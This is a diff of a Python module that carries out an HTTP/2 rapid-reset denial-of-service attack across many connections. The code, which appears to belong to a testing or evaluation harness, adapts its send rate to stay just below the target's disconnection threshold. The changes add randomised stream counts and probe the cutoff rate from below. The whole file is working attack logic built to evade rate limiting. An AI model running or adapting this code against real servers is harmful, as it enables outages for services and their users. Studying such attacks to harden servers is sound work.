@@ -1,19 +1,21 @@
 """Rapid reset from many connections, each just slow enough not to be cut off."""
 
 import itertools
+import random
 import time
 
 from rapid_reset import resets, single
 from target import Cut
 
 WAYS = ("tls", "crowd")
-FLOOR = {"streams": 2000}
-CONNECTIONS = 64
+FLOOR = {"streams": 200}
+CONNECTIONS = 32
 EACH_TURN = 4
 TICK_S = 0.05
-RATE_FIRST, RATE_MIN = 256 << 10, 1 << 10
-SLOWER, FASTER = 0.7, 1.1
 BYTES_PER_STREAM = 32
+# Of a connection, in bytes a second. Who is cut off is barred: the limit is looked for from below.
+RATE_FIRST, RATE_MIN = BYTES_PER_STREAM / TICK_S, 64
+SLOWER, FASTER, FASTER_TURNS = 0.7, 1.1, 20
 
 
 def attack(target):
@@ -29,15 +31,17 @@ def attack(target):
         for _ in range(min(EACH_TURN, CONNECTIONS - len(connections))):
             cut += not connect(target, connections, next(numbers))
         for connection in list(connections):
-            if not send_some(target, connection, rate):
+            try:
+                send_some(connection, rate)
+            except Cut as end:
                 connections.remove(connection)
                 connection.close()
-                target.cut()
+                target.cut(end)
                 cut += 1
         turn += 1
         if cut:
             rate = max(RATE_MIN, rate * SLOWER)
-        elif turn % 10 == 0:
+        elif turn % FASTER_TURNS == 0:
             rate *= FASTER
         time.sleep(max(0.0, min(target.left(), began + TICK_S - time.monotonic())))
 
@@ -45,8 +49,8 @@ def attack(target):
 def connect(target, connections, number):
     try:
         connection = target.connect(number)
-    except Cut:
-        target.cut()
+    except Cut as end:
+        target.cut(end)
         return False
     for _ in range(2):
         connection.queue(single(connection))
@@ -54,14 +58,10 @@ def connect(target, connections, number):
     return True
 
 
-def send_some(target, connection, rate):
-    try:
-        connection.discard()
-        if connection.queued < rate:
-            streams = max(1, int(rate * TICK_S / BYTES_PER_STREAM))
-            connection.queue(resets(connection, streams))
-            target.count("streams", streams)
-        connection.flush()
-        return True
-    except Cut:
-        return False
+def send_some(connection, rate):
+    connection.discard()
+    streams = int(rate * TICK_S / BYTES_PER_STREAM + random.random())
+    if streams > 0 and connection.queued < rate:
+        connection.queue(resets(connection, streams))
+        connection.count("streams", streams)
+    connection.flush()
